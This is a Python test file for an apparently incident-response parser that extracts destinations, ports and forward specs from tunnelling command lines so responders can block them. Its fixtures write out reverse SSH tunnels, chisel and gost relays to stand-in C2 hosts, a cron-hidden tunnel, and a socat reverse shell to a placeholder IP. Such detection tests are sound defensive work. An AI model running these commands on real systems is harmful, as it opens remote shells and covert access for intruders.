"""Tunnel command lines: the destination, user, port and forward specs a responder blocks."""

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from irkit.analysis.tunnels import find_tunnel, parse_tunnel
from tests.hostile.fuzzing import fuzz_settings

CASES = [
    ("ssh -N -R 9000:127.0.0.1:22 -p 2222 agent@198.51.100.4", "agent@198.51.100.4:2222",
     ["-R 9000:127.0.0.1:22"], "reverse"),
    ("ssh -fNR2222:localhost:22 u@203.0.113.5", "u@203.0.113.5:22",
     ["-R 2222:localhost:22"], "reverse"),
    ("/usr/bin/ssh -D 1080 -l ops -o Port=443 jump.evil.test", "ops@jump.evil.test:443",
     ["-D 1080"], "dynamic"),
    ("ssh -L 8080:10.0.0.5:80 ssh://bob@gw.evil.test:2200", "bob@gw.evil.test:2200",
     ["-L 8080:10.0.0.5:80"], "local"),
    ("ssh -w 0:0 root@192.0.2.10", "root@192.0.2.10:22", ["-w 0:0"], "tun"),
    ("autossh -M 0 -f -N -R 7000:localhost:22 -o ServerAliveInterval=30 a@198.51.100.9",
     "a@198.51.100.9:22", ["-R 7000:localhost:22"], "reverse"),
    ("chisel client https://c2.evil.test:443 R:9000:localhost:22", "c2.evil.test:443",
     ["R:9000:localhost:22"], "reverse"),
    ("frpc tcp -s 198.51.100.7:7000 -l 22 -r 6000", "198.51.100.7:7000", [], "out"),
    ("gost -L rtcp://:9000/127.0.0.1:22 -F relay+tls://198.51.100.8:443",
     "198.51.100.8:443", ["rtcp://:9000/127.0.0.1:22"], "reverse"),
    ("socat TCP:198.51.100.3:4444 EXEC:/bin/sh", "198.51.100.3:4444", [], "out"),
    ("ligolo-ng -connect 198.51.100.2:11601 -ignore-cert", "198.51.100.2:11601", [], "out"),
    ("sshuttle -r me@vpn.evil.test:2222 0/0", "me@vpn.evil.test:2222", [], "out"),
    ("bore local 22 --to bore.pub", "bore.pub", [], "out"),
]  # fmt: skip


@pytest.mark.parametrize(("command", "endpoint", "forwards", "direction"), CASES)
def test_destination_and_forwards(
    command: str, endpoint: str, forwards: list[str], direction: str
) -> None:
    tunnel = parse_tunnel(shlex.split(command))
    assert tunnel is not None
    assert (tunnel.endpoint, tunnel.forwards, tunnel.direction) == (endpoint, forwards, direction)
    assert endpoint in tunnel.describe()


def test_proxycommand_is_a_tunnel() -> None:
    tunnel = parse_tunnel(
        ["ssh", "-o", "ProxyCommand=nc -X 5 -x 10.0.0.1:1080 %h %p", "h.evil.test"]
    )
    assert tunnel is not None and tunnel.proxy == "nc -X 5 -x 10.0.0.1:1080 %h %p"


def test_ssh_n_is_a_forwarding_session_even_without_forwards_on_its_command_line() -> None:
    tunnel = parse_tunnel(["ssh", "-fN", "-F", "/tmp/.c", "jump"])
    assert tunnel is not None and tunnel.forward_only and tunnel.endpoint == "jump:22"
    assert "no remote command (-N)" in tunnel.describe()


@pytest.mark.parametrize(
    "argv", [["ssh", "admin@10.0.0.9"], ["ssh", "-p", "22", "host", "uptime"], [], ["python3"]]
)
def test_plain_ssh_and_other_programs_are_no_tunnel(argv: list[str]) -> None:
    assert parse_tunnel(argv) is None


def test_a_tunnel_inside_a_cron_command() -> None:
    words = shlex.split("sleep 30; /usr/bin/ssh -NR 9000:localhost:22 -p 2222 x@198.51.100.4")
    tunnel = find_tunnel(words)
    assert tunnel is not None and tunnel.endpoint == "x@198.51.100.4:2222"


words = st.lists(
    st.sampled_from(["ssh", "-R", "-p", "-o", "ProxyCommand=x", "-fNR", "u@h", "ssh://a@b:99999",
                     "chisel", "R:1:h:2", "--to", "h:70000", "1.2.3.4:22", "-r", "sshuttle", "--"])
    | st.text(max_size=12),
    max_size=8,
)  # fmt: skip


@fuzz_settings(300)
@given(words)
def test_any_command_line_parses_or_is_no_tunnel(argv: list[str]) -> None:
    for tunnel in (parse_tunnel(argv), find_tunnel(argv)):
        if tunnel is not None:
            assert tunnel.port is None or 0 < tunnel.port < 65536
            tunnel.describe()
